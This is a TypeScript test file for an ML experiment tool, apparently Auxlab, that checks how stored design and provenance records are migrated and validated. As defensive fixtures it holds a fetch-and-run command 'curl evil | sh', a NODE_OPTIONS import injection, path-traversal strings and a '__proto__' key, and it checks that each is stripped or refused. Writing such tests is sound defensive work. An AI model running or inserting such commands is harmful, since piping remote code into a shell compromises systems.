import { expect, test } from 'vitest';
import { designFormat, readDesign } from '../../src-main/contract/design.ts';
import { switchNames, switchValue } from '../../src-main/contract/environment.ts';
import { readProvenance } from '../../src-main/contract/provenance.ts';

const task = {
  id: 'main',
  target: 'constructor', // a column of race data; names are data
  kind: 'classification',
  loss: 'cross-entropy',
  huberDelta: 1,
  labelSmoothing: 0,
  classWeights: 'none',
  metric: 'accuracy',
  depth: 'end',
  weight: 1,
  schedule: { id: 'constant' },
  balanced: true,
  bounds: null,
};
const threads = { TF_NUM_INTRAOP_THREADS: '1', TF_NUM_INTEROP_THREADS: '1', OMP_NUM_THREADS: '1', TF_ENABLE_ONEDNN_OPTS: '1' };

/** As the first version stored it: without a number, with any variable. */
const first = {
  data: { digest: 'a'.repeat(64), name: 'cars', source: '/data/cars.csv', format: 'csv', rows: 60 },
  input: { kind: 'table', shape: [3] },
  roles: { constructor: 'target', ['__proto__']: 'ignore', speed: 'input' },
  excludedInputs: ['constructor'],
  split: { kind: 'grouped', train: 0.7, validation: 0.15, test: 0.15, seed: 4, column: 'team' },
  parts: { train: 42, validation: 9, heldOut: 0, test: 9, digest: 'b'.repeat(64) },
  trainFraction: 1,
  network: { id: 'mlp', params: { layers: 2 } },
  parameters: 100,
  training: { epochs: 2, batch: 8, optimizer: {}, learningRateSchedule: {}, logEvery: 1 },
  metric: 'accuracy',
  margin: 0.005,
  arms: [
    { id: 'baseline', title: 'Baseline', role: 'baseline', method: { id: 'fixed', params: {} }, tasks: [task] },
    {
      id: 'auxiliary',
      title: 'heads',
      role: 'auxiliary',
      method: { id: 'fixed', params: {} },
      tasks: [task, { ...task, id: 'constructor@layer1', depth: 'layer1', weight: 0.3 }],
    },
  ],
  classes: { constructor: ['a', 'b'] },
  warnings: [],
  engine: { backend: 'auto', mode: 'captured', threads: 1 },
  environment: { ...threads, XLA_FLAGS: '--xla_dump_to=/x', NODE_OPTIONS: '--import=data:' },
};

test('a design of the first form is read; variables that travel no more are left behind', () => {
  const design = readDesign(JSON.parse(JSON.stringify(first)));
  expect(design).toMatchObject({ format: designFormat, network: first.network, classes: { constructor: ['a', 'b'] } });
  expect(design.environment).toEqual(threads);
});

test('a design of the second form is read: the loss has its parameters, optimizer and schedules have their own alone', () => {
  const huber = { ...task, kind: 'regression', loss: 'huber', huberDelta: 0.7, metric: 'mae' };
  const second = {
    ...first,
    format: 2,
    environment: threads,
    metric: 'mae',
    arms: [
      { ...first.arms[0], tasks: [huber] },
      { ...first.arms[1], tasks: [huber, { ...task, id: 'other', schedule: { id: 'gated', start: 0.1, grow: 1.5, shrink: 0.5, min: 0.01, max: 1 } }] },
    ],
    training: {
      ...first.training,
      optimizer: { id: 'momentum', learningRate: 0.01, momentum: 0.8, nesterov: true, beta1: 0.9, beta2: 0.999, rho: 0.9, epsilon: 1e-7, weightDecay: 0 },
      learningRateSchedule: { id: 'step', warmUp: 0, every: 5, factor: 0.5, floor: 0 },
    },
  };
  const design = readDesign(JSON.parse(JSON.stringify(second)));
  expect(design.format).toBe(designFormat);
  expect(design.arms[1]?.tasks.map(({ loss, lossParams }) => [loss, lossParams])).toEqual([
    ['huber', { delta: 0.7 }],
    ['cross-entropy', {}],
  ]);
  expect(design.training.optimizer).toEqual({ id: 'momentum', learningRate: 0.01, momentum: 0.8, nesterov: true, weightDecay: 0 });
  expect(design.training.learningRateSchedule).toEqual({ id: 'step', warmUp: 0, every: 5, factor: 0.5 });
  expect(readDesign(JSON.parse(JSON.stringify(design)))).toEqual(design);
});

test("a design of the third form is read: what its arms are called is the plan's", () => {
  const withLoss = ({ huberDelta: _, ...rest }: typeof task) => ({ ...rest, lossParams: {} });
  const third = { ...first, format: 3, environment: threads, arms: first.arms.map((arm) => ({ ...arm, tasks: arm.tasks.map(withLoss) })) };
  const design = readDesign(JSON.parse(JSON.stringify(third)));
  expect(design.format).toBe(designFormat);
  expect(design.arms.map((arm) => [arm.id, Object.keys(arm)])).toEqual([
    ['baseline', ['id', 'role', 'method', 'tasks']],
    ['auxiliary', ['id', 'role', 'method', 'tasks']],
  ]);
  expect(readDesign(JSON.parse(JSON.stringify(design)))).toEqual(design);
});

test('of an older design what is no arm or task is refused as such, and parameters of a loss that are there already stay', () => {
  const second = (tasks: unknown): unknown => ({ ...first, format: 2, environment: threads, arms: [{ ...first.arms[0], tasks }] });
  for (const tasks of [[7], [null], 'x']) expect(() => readDesign(second(tasks))).toThrow(/^Invalid type: Expected (Object|Array) but received/);
  expect(() => readDesign({ ...first, format: 2, environment: threads, arms: 7 })).toThrow(/Expected Array but received 7/);
  const { huberDelta: _, ...newer } = task;
  const lossParams = { delta: 2 };
  expect(readDesign(second([{ ...newer, loss: 'huber', lossParams }])).arms[0]?.tasks[0]?.lossParams).toEqual(lossParams);
});

test('a design of the present form, as it is stored today, is read', () => {
  const stored: unknown = JSON.parse(JSON.stringify(readDesign(first)).replace(`"format":${designFormat}`, '"format":4'));
  expect(readDesign(stored)).toEqual(stored);
});

test('a name that a column can have stays an entry, "__proto__" too, and the split keeps the order in which it was written', () => {
  const design = readDesign(JSON.parse(JSON.stringify(first)));
  expect(Object.entries(design.roles)).toEqual([
    ['constructor', 'target'],
    ['__proto__', 'ignore'],
    ['speed', 'input'],
  ]);
  expect(Object.keys(design.split)).toEqual(Object.keys(first.split));
  expect(readDesign(JSON.parse(JSON.stringify(design)))).toEqual(design);
});

test.each([
  ['a digest that is none', { data: { ...first.data, digest: '../x' } }, /must be a SHA-256/],
  ['an arm of another name', { arms: [first.arms[0], { ...first.arms[1], id: '../x' }] }, /lower-case letters/],
  ['no baseline', { arms: [first.arms[1]] }, /baseline as its first arm/],
  ['two arms of one id', { arms: [first.arms[0], first.arms[1], first.arms[1]] }, /different ids/],
  ['no main task', { arms: [first.arms[0], { ...first.arms[1], tasks: [{ ...task, id: 'other' }] }] }, /main task first/],
  ['a shape beyond belief', { input: { kind: 'image', shape: [1e12, 1, 1] } }, /Expected <=1000000/],
  ['a number of threads beyond belief', { engine: { ...first.engine, threads: 1e6 } }, /Expected <=1024/],
  ['a shape without a side', { input: { kind: 'table', shape: [0] } }, /Expected >=1/],
  ['a shape of another kind', { input: { kind: 'table', shape: [3, 3] } }, /never/],
  ['no rows', { data: { ...first.data, rows: 0 } }, /Expected >=1/],
  ['more rows than are counted', { parts: { ...first.parts, train: 2 ** 31 + 1 } }, /Expected <=2147483648/],
  ['a source beyond belief', { data: { ...first.data, source: 'a'.repeat(4097) } }, /length/],
  ['a network without a name', { network: { id: '', params: {} } }, /length/],
  ['a network of a name beyond belief', { network: { id: 'a'.repeat(201), params: {} } }, /length/],
  ['more parameters than are counted', { parameters: 2 ** 48 + 1 }, /Expected <=281474976710656/],
  ['a margin below 0', { margin: -0.001 }, /Expected >=0/],
  ['no training rows', { trainFraction: 0 }, /Expected >0/],
  ['more than all training rows', { trainFraction: 1.001 }, /Expected <=1/],
  ['a split without a seed', { split: { ...first.split, seed: undefined } }, /seed|Invalid/],
  ['no arms', { arms: [] }, /length/],
  ['more arms than a plan has', { arms: [first.arms[0], ...Array.from({ length: 201 }, (_, at) => ({ ...first.arms[1], id: `a${at}` }))] }, /length/],
  ['an arm without tasks', { arms: [{ ...first.arms[0], tasks: [] }] }, /length/],
  ['a second baseline by role', { arms: [first.arms[0], { ...first.arms[1], role: 'baseline' }] }, /baseline as its first arm/],
  ['a first arm that is no baseline by role', { arms: [{ ...first.arms[0], role: 'auxiliary' }] }, /baseline as its first arm/],
  ['two tasks of one id', { arms: [first.arms[0], { ...first.arms[1], tasks: [task, task] }] }, /tasks of different ids/],
  ['full smoothing', { arms: [{ ...first.arms[0], tasks: [{ ...task, labelSmoothing: 1 }] }] }, /Expected <1/],
  ['a weight below 0', { arms: [{ ...first.arms[0], tasks: [{ ...task, weight: -1 }] }] }, /Expected >=0/],
  ['an upper bound of 0', { arms: [{ ...first.arms[0], tasks: [{ ...task, bounds: { min: 0, max: 0 } }] }] }, /Expected >0/],
  ['a lower bound below 0', { arms: [{ ...first.arms[0], tasks: [{ ...task, bounds: { min: -1, max: 1 } }] }] }, /Expected >=0/],
  ['an unknown key', { command: 'rm' }, /Expected never/],
  [
    'a loss with parameters that are not its own',
    { arms: [{ ...first.arms[0], tasks: [{ ...task, loss: 'huber', huberDelta: -1 }] }] },
    /parameters of its loss/,
  ],
  ['a newer form', { format: designFormat + 1 }, /newer Auxlab/],
] as const)('%s is refused', (_, part, message) => {
  expect(() => readDesign({ ...first, ...part })).toThrow(message);
});

test('provenance of the first form loses its command, and what was free text is a record of its own', () => {
  const old = {
    auxlab: '0.1.0',
    node: 'v24',
    platform: 'linux-x64',
    cpu: 'x',
    created: '2026-11-24T10:00:00.000Z',
    data: { source: 's', digest: 'a'.repeat(64), rows: 60, split: first.parts },
    seeds: [1, 2],
    command: 'curl evil | sh',
    environment: first.environment,
  };
  const read = readProvenance(old);
  expect(read).not.toHaveProperty('command');
  expect([read.environment, read.host]).toEqual([threads, { XLA_FLAGS: '--xla_dump_to=/x' }]);
});

test('a switch is taken in the words that TensorFlow takes, and in no others', () => {
  expect(switchNames.map((name) => switchValue(name, ' TRUE '))).toEqual(['1', '1', '1', '1', 'TRUE']); // an instruction set may have any name
  expect(switchNames.map((name) => switchValue(name, '/tmp/x'))).toEqual([undefined, undefined, undefined, undefined, undefined]);
  expect(switchValue('TF_DETERMINISTIC_OPS', undefined)).toBeUndefined();
});
